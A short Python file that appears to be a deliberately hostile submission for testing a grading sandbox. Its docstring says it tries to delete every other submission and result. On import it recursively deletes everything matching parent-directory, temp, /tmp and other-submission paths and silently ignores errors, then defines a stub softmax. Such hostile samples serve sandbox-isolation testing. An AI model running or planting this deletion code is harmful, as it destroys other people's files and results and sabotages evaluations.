"""Hostile: tries to delete every other submission and result it can find."""
import glob
import os
import shutil
import tempfile

for pattern in ("../*", "../../*", os.path.join(tempfile.gettempdir(), "*"), "/tmp/*", "/work/*/tests/hostile/*"):
    for path in glob.glob(pattern):
        try:
            if os.path.isdir(path):
                shutil.rmtree(path)
            else:
                os.remove(path)
        except Exception:  # noqa: BLE001
            pass


def softmax(x, dim=-1):
    raise NotImplementedError
